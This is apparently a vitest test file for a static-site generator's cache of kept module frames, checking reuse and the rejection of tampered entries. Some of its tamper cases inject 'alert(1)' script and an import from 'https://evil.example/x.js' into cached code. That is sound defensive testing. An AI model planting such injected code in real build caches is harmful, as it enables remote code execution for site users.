import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { emit } from '../../generator/compile.ts';
import type { AssetCache } from '../../generator/vite/asset-cache.ts';
import { keptFrames } from '../../generator/vite/kept-frames.ts';
import { fixtureModel } from '../support/fixture-model.ts';

/** A cache in memory that counts what had to be made. */
function countingCache(kept = new Map<string, Uint8Array>()): {
  readonly cache: AssetCache;
  made(): number;
} {
  let made = 0;
  return {
    made: () => made,
    cache: {
      async get(key, accepts, make) {
        const name = createHash('sha256').update(JSON.stringify(key)).digest('hex');
        const known = kept.get(name);
        if (known !== undefined && accepts(known)) {
          return known;
        }
        made += 1;
        const content = await make();
        kept.set(name, content);
        return content;
      },
    },
  };
}

describe('frames of modules that are kept from run to run', () => {
  test('give the bytes of freshly printed ones, and are printed once for all pages together', async () => {
    const { cache, made } = countingCache();
    const model = await fixtureModel('driver-papers');
    const fresh = await emit(model);
    expect(model.pages.length).toBeGreaterThan(1);

    expect(await emit(model, keptFrames(cache))).toEqual(fresh);
    const modules = fresh.filter(({ path }) => path.endsWith('.ts') && !path.startsWith('pages/'));
    expect(made()).toBe(modules.length + 1);

    expect(await emit(model, keptFrames(cache))).toEqual(fresh);
    expect(made()).toBe(modules.length + 1);
  });

  test.for([
    ['a word more', (text: string) => text.replace('export', 'alert(1);export')],
    [
      'code in place of a line',
      (text: string) => text.replace(/import type[^;]*;/, "import 'https://evil.example/x.js';"),
    ],
    ['code beside an export', (text: string) => text.replace(/"\]$/, ';alert(1)"]')],
    ['another module', (text: string) => text.replace('src/model/', 'src/other/')],
    ['a comment that swallows a line', (text: string) => text.replace('export', '//export')],
    ['a part less', (text: string) => JSON.stringify([JSON.parse(text)[0]])],
    ['no list', () => '{}'],
    ['no JSON', () => '['],
  ] as const)('with %s are printed anew', async ([, plant]) => {
    const kept = new Map<string, Uint8Array>();
    const model = await fixtureModel('driver-papers');
    const fresh = await emit(model, keptFrames(countingCache(kept).cache));
    const frames = kept.size;
    for (const [name, content] of kept) {
      const planted = plant(String(content));
      expect(planted).not.toBe(String(content));
      kept.set(name, Buffer.from(planted));
    }
    const { cache, made } = countingCache(kept);
    expect(await emit(model, keptFrames(cache))).toEqual(fresh);
    expect(made()).toBe(frames);
  });

  test('of two sites differ where their modules do', async () => {
    const { cache } = countingCache();
    const first = await fixtureModel('driver-papers');
    const second = { ...first, pages: first.pages.slice(1) };
    await emit(first, keptFrames(cache));
    expect(await emit(second, keptFrames(cache))).toEqual(await emit(second));
  });
});
